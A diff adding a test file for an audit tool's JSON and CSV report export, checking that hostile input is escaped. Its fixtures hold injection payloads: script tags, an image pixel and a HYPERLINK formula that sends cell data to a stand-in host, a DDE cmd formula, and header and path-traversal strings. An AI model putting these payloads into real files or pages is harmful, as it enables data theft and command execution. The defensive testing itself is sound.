@@ -1,0 +1,330 @@
+import { describe, expect, it } from 'vitest';
+import { exportFormats, exportReport } from '../../src/domain/audit/export.js';
+import { gapFingerprint, gapIdOf, severityOf } from '../../src/domain/gaps/gap.js';
+import { auditReportSchema, overallStatusOf, scoreOf, type AuditReport, type ReportGap, type TargetResult } from '../../src/domain/audit/report.js';
+
+// Strings a probed system or a hand-written inventory can put into a report.
+const hostileTargetId = `edge-"cdn"<script>alert('id')</script>&co`;
+const hostileComponent = 'edge, "cdn" & <b>friends</b>';
+const pipedTitle = 'Certificate names the host | wildcard, "edge" <i>&amp;</i>\nsecond line';
+const injectedImage = '<img src="http://evil.example/pixel.png"> CN=*.evil.example';
+const probeError = `probe crashed: <script>alert("q")</script> & 'boom'`;
+
+type Unmet = { check: string; title: string; expected: string; observed: string; gapType: ReportGap['type'] };
+type Plan = Pick<TargetResult, 'id' | 'kind' | 'component' | 'criticality' | 'durationMs'> & {
+  met?: string[];
+  unmet?: Unmet[];
+  error?: string;
+};
+
+/** How each gap of the fixture came about in this audit, by target and check. */
+const changes: Record<string, { change: ReportGap['change']; count: number; firstSeenAt: string }> = {
+  'fleet-redis/auth': { change: 'new', count: 1, firstSeenAt: '2026-11-26T08:15:02.000Z' },
+  'fleet-redis/eviction-policy': { change: 'recurring', count: 6, firstSeenAt: '2026-11-20T08:15:01.000Z' },
+  'fleet-redis/memory': { change: 'reopened', count: 3, firstSeenAt: '2026-11-02T08:15:03.000Z' },
+  'fleet-redis/aof': { change: 'recurring', count: 2, firstSeenAt: '2026-11-25T08:15:01.000Z' },
+  'payments-db/latency': { change: 'recurring', count: 4, firstSeenAt: '2026-11-23T08:15:04.000Z' },
+  [`${hostileTargetId}/hostname`]: { change: 'new', count: 1, firstSeenAt: '2026-11-26T08:15:02.500Z' },
+  [`${hostileTargetId}/days-left`]: { change: 'reopened', count: 5, firstSeenAt: '2026-10-01T08:15:00.000Z' },
+  'flag-auto-remediation/flag': { change: 'new', count: 1, firstSeenAt: '2026-11-26T08:15:02.700Z' },
+};
+
+const plans: Plan[] = [
+  { id: 'api-gateway', kind: 'http', component: 'gateway', criticality: 'critical', durationMs: 182.4, met: ['status', 'latency', 'json.status'] },
+  {
+    id: 'fleet-redis',
+    kind: 'redis',
+    component: 'bedrock-support',
+    criticality: 'critical',
+    durationMs: 14,
+    met: ['latency'],
+    unmet: [
+      { check: 'auth', title: 'Redis requires a password', expected: 'requirepass set', observed: '+no password', gapType: 'security_vulnerability' },
+      { check: 'eviction-policy', title: 'Redis never evicts queue keys', expected: 'noeviction', observed: '@SUM(1+1)', gapType: 'configuration_drift' },
+      { check: 'memory', title: 'Redis has memory headroom', expected: '< 80% of maxmemory', observed: '\t=0.97*100', gapType: 'performance_issue' },
+      { check: 'aof', title: 'Redis keeps jobs across restarts (AOF)', expected: 'aof on', observed: '\r=cmd|" /C calc"!A0', gapType: 'configuration_drift' },
+    ],
+  },
+  {
+    id: 'payments-db',
+    kind: 'tcp',
+    component: 'payments',
+    criticality: 'high',
+    durationMs: 2310.7,
+    unmet: [{ check: 'latency', title: 'payments-db accepts connections quickly', expected: '< 1000 ms', observed: '2310 ms\nover budget', gapType: 'performance_issue' }],
+  },
+  {
+    id: hostileTargetId,
+    kind: 'tls',
+    component: hostileComponent,
+    criticality: 'medium',
+    durationMs: 96,
+    met: ['handshake'],
+    unmet: [
+      { check: 'hostname', title: pipedTitle, expected: 'CN=edge.example.com', observed: injectedImage, gapType: 'security_vulnerability' },
+      { check: 'days-left', title: 'Certificate valid for 14 days more', expected: '>= 14 days\r(the renewal window)', observed: '-3 days', gapType: 'configuration_drift' },
+    ],
+  },
+  { id: 'queue-infrastructure-auditor', kind: 'queue', component: 'infrastructure-auditor', criticality: 'high', durationMs: 5000, error: probeError },
+  {
+    id: 'flag-auto-remediation',
+    kind: 'feature-flag',
+    component: 'implementation-support',
+    criticality: 'low',
+    durationMs: 0.8,
+    unmet: [{ check: 'flag', title: 'auto-remediation is on', expected: 'true', observed: '=HYPERLINK("http://evil.example/?q="&A1,"open")', gapType: 'configuration_drift' }],
+  },
+  { id: 'dns-api', kind: 'dns', component: 'gateway', criticality: 'medium', durationMs: 3, met: ['resolves'] },
+];
+
+function targetOf(p: Plan): TargetResult {
+  const met = (p.met ?? []).map((check) => ({ check, title: `${check} as expected`, expected: 'ok', observed: 'ok', met: true, gapType: 'broken_integration' as const }));
+  const unmet = (p.unmet ?? []).map((u) => ({ ...u, met: false }));
+  const base = { id: p.id, kind: p.kind, component: p.component, criticality: p.criticality, durationMs: p.durationMs };
+  if (p.error !== undefined) {
+    return { ...base, status: 'error', reach: { reachable: false, cause: 'timeout', detail: 'no answer within 5000 ms' }, observations: [], error: p.error };
+  }
+  return { ...base, status: unmet.length > 0 ? 'fail' : 'pass', reach: { reachable: true }, observations: [...met, ...unmet] };
+}
+
+/** A comprehensive audit of seven targets (pass, fail, error), eight gaps of every change kind, hostile strings throughout. */
+function buildReport(): AuditReport {
+  const targets = plans.map(targetOf);
+  const gaps: ReportGap[] = plans.flatMap((p) =>
+    (p.unmet ?? []).map((u) => {
+      const seen = changes[`${p.id}/${u.check}`];
+      if (!seen) {
+        throw new Error(`fixture: no change for ${p.id}/${u.check}`);
+      }
+      const fingerprint = gapFingerprint({ source: 'audit', subject: p.id, check: u.check, type: u.gapType });
+      return {
+        id: gapIdOf(fingerprint),
+        fingerprint,
+        type: u.gapType,
+        severity: severityOf(u.gapType, p.criticality),
+        status: 'detected',
+        title: u.title,
+        subject: p.id,
+        check: u.check,
+        components: [p.component],
+        evidence: { expected: u.expected, observed: u.observed },
+        count: seen.count,
+        firstSeenAt: seen.firstSeenAt,
+        lastSeenAt: '2026-11-26T08:15:05.000Z',
+        change: seen.change,
+      };
+    }),
+  );
+  const score = scoreOf(targets);
+  return auditReportSchema.parse({
+    auditId: 'audit-42',
+    type: 'comprehensive',
+    trigger: { by: 'ops-key', reason: 'daily check, after the "edge" | cdn change', priority: 'high' },
+    startedAt: '2026-11-26T08:15:00.000Z',
+    finishedAt: '2026-11-26T08:15:05.200Z',
+    durationMs: 5200,
+    inventory: { version: 3, source: 'file' },
+    status: overallStatusOf(targets, gaps),
+    score,
+    summary: {
+      targets: targets.length,
+      pass: targets.filter((t) => t.status === 'pass').length,
+      fail: targets.filter((t) => t.status === 'fail').length,
+      error: targets.filter((t) => t.status === 'error').length,
+      gaps: gaps.length,
+    },
+    targets,
+    gaps,
+    resolved: [
+      { id: 'gap-00aa11bb22cc33dd', title: 'api-gateway answers 200', subject: 'api-gateway' },
+      { id: 'gap-44ee55ff66007711', title: 'Old | gap <i>"x"</i> & more', subject: 'dns-api' },
+    ],
+    trend: { previousAuditId: 'audit-41', previousScore: 70, scoreDelta: score - 70, newGaps: 3, resolvedGaps: 2 },
+    recommendations: [
+      { priority: 'critical', gapId: gaps[0]?.id ?? '', text: 'Set requirepass on the fleet Redis and rotate the clients\' credentials.' },
+      { priority: 'high', gapId: gaps[5]?.id ?? '', text: 'Renew the edge certificate | check the SAN list <script>alert(1)</script>' },
+      { priority: 'medium', gapId: gaps[4]?.id ?? '', text: 'Add a read replica or raise the payments-db pool size.' },
+    ],
+    narrative: {
+      text: 'The fleet Redis has no password: fix that first.\n\nThe edge certificate <script>alert("n")</script> & its | pipe expire soon.',
+      path: 'local',
+      model: null,
+    },
+  });
+}
+
+const unmetCount = (r: AuditReport) => r.targets.reduce((n, t) => n + t.observations.filter((o) => !o.met).length, 0);
+
+describe('export formats', () => {
+  it('lists the formats ?format= accepts', () => {
+    expect(exportFormats).toEqual(['json', 'csv']);
+  });
+
+  it('names each file after the audit and says its type and charset', () => {
+    const report = buildReport();
+    expect(exportReport(report, 'json')).toMatchObject({ contentType: 'application/json; charset=utf-8', fileName: 'audit-42.json' });
+    expect(exportReport(report, 'csv')).toMatchObject({ contentType: 'text/csv; charset=utf-8', fileName: 'audit-42-findings.csv' });
+  });
+
+  it('keeps a strange audit id out of the file name', () => {
+    const report = { ...buildReport(), auditId: '../audit-7/"x";\r\nSet-Cookie: a=b' };
+    for (const format of exportFormats) {
+      const { fileName } = exportReport(report, format);
+      expect(fileName).toMatch(/^[A-Za-z0-9_-][A-Za-z0-9._-]*$/);
+      expect(fileName).not.toContain('..');
+    }
+  });
+});
+
+describe('JSON export', () => {
+  it('is the report itself, pretty, and parses back through the schema', () => {
+    const report = buildReport();
+    const { body } = exportReport(report, 'json');
+    expect(body).toContain('\n  "auditId": "audit-42",\n');
+    expect(auditReportSchema.parse(JSON.parse(body))).toEqual(report);
+  });
+});
+
+/** RFC 4180, strictly: records end with CRLF (the last one too), quoted fields double their quotes, no quote inside an unquoted field. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let i = 0;
+  while (i < text.length) {
+    const record: string[] = [];
+    for (;;) {
+      let field = '';
+      if (text.charAt(i) === '"') {
+        i += 1;
+        for (;;) {
+          if (i >= text.length) {
+            throw new Error('a quoted field is not closed');
+          }
+          if (text.charAt(i) === '"') {
+            if (text.charAt(i + 1) !== '"') {
+              i += 1;
+              break;
+            }
+            i += 1;
+          }
+          field += text.charAt(i);
+          i += 1;
+        }
+      } else {
+        while (i < text.length && !',\r\n'.includes(text.charAt(i))) {
+          if (text.charAt(i) === '"') {
+            throw new Error(`a quote inside an unquoted field at ${i}`);
+          }
+          field += text.charAt(i);
+          i += 1;
+        }
+      }
+      record.push(field);
+      if (text.charAt(i) === ',') {
+        i += 1;
+      } else if (text.startsWith('\r\n', i)) {
+        i += 2;
+        break;
+      } else {
+        throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 12))}`);
+      }
+    }
+    records.push(record);
+  }
+  return records;
+}
+
+const columns = [
+  'audit_id',
+  'finding',
+  'target_id',
+  'kind',
+  'component',
+  'criticality',
+  'target_status',
+  'check',
+  'title',
+  'gap_id',
+  'gap_type',
+  'severity',
+  'gap_status',
+  'change',
+  'expected',
+  'observed',
+  'count',
+  'first_seen',
+  'last_seen',
+];
+
+describe('CSV export of the findings', () => {
+  const report = buildReport();
+  const { body } = exportReport(report, 'csv');
+  // Parsed in each test, so a body the parser refuses fails the tests, not the file's collection.
+  const parsed = () => {
+    const [header, ...rows] = parseCsv(body);
+    return { header, rows, rowsOf: (finding: string) => rows.filter((r) => cell(r, 'finding') === finding) };
+  };
+  const cell = (row: string[] | undefined, column: string) => row?.[columns.indexOf(column)];
+
+  it('has a header row and one row per finding: every unmet check, every probe that could not run, every gap', () => {
+    const { header, rows, rowsOf } = parsed();
+    expect(header).toEqual(columns);
+    expect(rowsOf('unmet_check')).toHaveLength(unmetCount(report));
+    expect(rowsOf('probe_error')).toHaveLength(1);
+    expect(rowsOf('gap')).toHaveLength(report.gaps.length);
+    expect(rows).toHaveLength(8 + 1 + 8);
+    for (const row of rows) {
+      expect(row).toHaveLength(columns.length);
+      expect(cell(row, 'audit_id')).toBe('audit-42');
+    }
+  });
+
+  it('round-trips fields with commas, quotes and line breaks', () => {
+    const { rows, rowsOf } = parsed();
+    const hostname = rows.find((r) => cell(r, 'finding') === 'gap' && cell(r, 'check') === 'hostname');
+    expect(cell(hostname, 'title')).toBe(pipedTitle);
+    expect(cell(hostname, 'target_id')).toBe(hostileTargetId);
+    expect(cell(hostname, 'component')).toBe(hostileComponent);
+    expect(cell(hostname, 'observed')).toBe(injectedImage);
+    expect(cell(hostname, 'change')).toBe('new');
+    expect(cell(hostname, 'first_seen')).toBe('2026-11-26T08:15:02.500Z');
+    // Line breaks alone are reason enough to quote.
+    expect(rows.filter((r) => cell(r, 'check') === 'latency').map((r) => cell(r, 'observed'))).toEqual(Array(2).fill('2310 ms\nover budget'));
+    expect(rows.filter((r) => cell(r, 'check') === 'days-left').map((r) => cell(r, 'expected'))).toEqual(Array(2).fill('>= 14 days\r(the renewal window)'));
+    const error = rowsOf('probe_error')[0];
+    expect(cell(error, 'observed')).toBe(probeError);
+    expect(cell(error, 'target_status')).toBe('error');
+  });
+
+  it('links each unmet check to its gap', () => {
+    const { rowsOf } = parsed();
+    for (const row of rowsOf('unmet_check')) {
+      const gap = report.gaps.find((g) => g.id === cell(row, 'gap_id'));
+      expect(gap?.subject).toBe(cell(row, 'target_id'));
+      expect(gap?.check).toBe(cell(row, 'check'));
+      expect(cell(row, 'severity')).toBe(gap?.severity);
+    }
+  });
+
+  it('neutralises cells a spreadsheet would run as a formula', () => {
+    const { rows } = parsed();
+    const observed = (check: string) => rows.filter((r) => cell(r, 'check') === check).map((r) => cell(r, 'observed'));
+    expect(observed('flag')).toEqual(Array(2).fill(`'=HYPERLINK("http://evil.example/?q="&A1,"open")`));
+    expect(observed('auth')).toEqual(Array(2).fill(`'+no password`));
+    expect(observed('eviction-policy')).toEqual(Array(2).fill(`'@SUM(1+1)`));
+    expect(observed('memory')).toEqual(Array(2).fill(`'\t=0.97*100`));
+    expect(observed('aof')).toEqual(Array(2).fill(`'\r=cmd|" /C calc"!A0`));
+    expect(observed('days-left')).toEqual(Array(2).fill(`'-3 days`));
+    for (const value of rows.flat()) {
+      expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('ends every record with CRLF and has no bare line feed between records', () => {
+    // The header, the unmet checks, the one probe error, the gaps.
+    const records = 1 + unmetCount(report) + 1 + report.gaps.length;
+    const outsideQuotes = body.replace(/"(?:[^"]|"")*"/g, '""');
+    expect(outsideQuotes).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
+    expect(outsideQuotes.split('\r\n')).toHaveLength(records + 1);
+    expect(body.endsWith('\r\n')).toBe(true);
+  });
+});
